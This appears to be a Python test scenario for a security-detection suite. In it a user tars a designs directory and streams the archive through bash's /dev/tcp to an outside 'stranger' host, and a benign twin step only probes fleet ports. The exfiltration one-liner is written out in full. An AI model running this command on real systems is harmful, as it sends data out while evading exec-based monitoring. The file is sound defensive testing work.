"""The shell itself sends an archive: no program is started that an exec rule could know."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs
from ..scenario import RAW, STRANGER, Person, Scenario, Step, Truth
from ..twins import Draw


def _twin(draw: Draw) -> tuple[Step, ...]:
    host, tries = draw.one_of("app", "bastion"), draw.number(3, 1, 9)
    return (Step("tom", f"ssh tom@db 'for n in $(seq {tries}); do : < /dev/tcp/{host}/22 && break; done'"),)


SCENARIO = Scenario(
    number=11,
    title="bash sends an archive through /dev/tcp",
    people=(Person("trude", ("db",)), Person("tom", ("db",))),
    prepared=(designs("db"),),
    steps=(
        Step("trude", f"ssh trude@db 'tar cf d.tar -C /srv designs; cat d.tar > /dev/tcp/{STRANGER}/{RAW}'"),
    ),
    twin_title="a script waits for a port of the fleet through /dev/tcp, and sends nothing",
    twin=_twin,
    truth=Truth("trude", ("db",), ("shell-socket", "upload-new-destination"), DESIGN_BYTES, STRANGER),
)
